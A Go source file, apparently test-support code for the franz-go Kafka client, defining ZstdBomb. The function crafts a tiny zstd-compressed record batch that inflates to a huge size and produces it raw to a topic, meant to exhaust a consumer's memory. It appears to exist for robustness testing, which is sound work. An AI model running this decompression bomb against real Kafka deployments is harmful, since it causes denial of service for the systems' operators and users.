package hostile

import (
	"context"
	"fmt"
	"hash/crc32"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// ZstdBomb produces, with a raw produce request on cl, one zstd-compressed
// record batch of n records, each with key and a value of size zero bytes,
// to topic's partition: a batch of a few kilobytes on the wire that
// decompresses to about n*size bytes. It is how a hostile producer tries to
// exhaust a consumer's memory, and no kgo producer builds such a batch (kgo
// bounds batches before compression).
func ZstdBomb(ctx context.Context, cl *kgo.Client, topic string, partition int32, key []byte, n, size int) error {
	var raw []byte
	now := time.Now().UnixMilli()
	value := make([]byte, size)
	for i := range n {
		r := kmsg.Record{OffsetDelta: int32(i), Key: key, Value: value}
		body := r.AppendTo(nil) // with Length 0, a one-byte varint
		r.Length = int32(len(body) - 1)
		raw = r.AppendTo(raw)
	}
	enc, err := zstd.NewWriter(nil, zstd.WithEncoderLevel(zstd.SpeedFastest))
	if err != nil {
		return err
	}
	compressed := enc.EncodeAll(raw, nil)
	enc.Close()
	b := kmsg.RecordBatch{
		PartitionLeaderEpoch: -1, Magic: 2, Attributes: 4, // zstd
		LastOffsetDelta: int32(n - 1), FirstTimestamp: now, MaxTimestamp: now,
		ProducerID: -1, ProducerEpoch: -1, FirstSequence: -1,
		NumRecords: int32(n), Records: compressed,
	}
	enc2 := b.AppendTo(nil)
	b.Length = int32(len(enc2) - 12)
	b.CRC = int32(crc32.Checksum(b.AppendTo(nil)[21:], crc32.MakeTable(crc32.Castagnoli)))
	// Produce v13 names topics by id.
	topics, err := kadm.NewClient(cl).ListTopics(ctx, topic)
	if err != nil {
		return err
	}
	detail, ok := topics[topic]
	if !ok || detail.Err != nil {
		return fmt.Errorf("topic %s: %v", topic, detail.Err)
	}
	req := kmsg.NewPtrProduceRequest()
	req.Acks = -1
	req.TimeoutMillis = 10_000
	rt := kmsg.NewProduceRequestTopic()
	rt.Topic, rt.TopicID = topic, detail.ID
	rp := kmsg.NewProduceRequestTopicPartition()
	rp.Partition = partition
	rp.Records = b.AppendTo(nil)
	rt.Partitions = append(rt.Partitions, rp)
	req.Topics = append(req.Topics, rt)
	resp, err := req.RequestWith(ctx, cl)
	if err != nil {
		return err
	}
	for _, t := range resp.Topics {
		for _, p := range t.Partitions {
			if err := kerr.ErrorForCode(p.ErrorCode); err != nil {
				return fmt.Errorf("produce %s[%d]: %w", topic, partition, err)
			}
		}
	}
	return nil
}
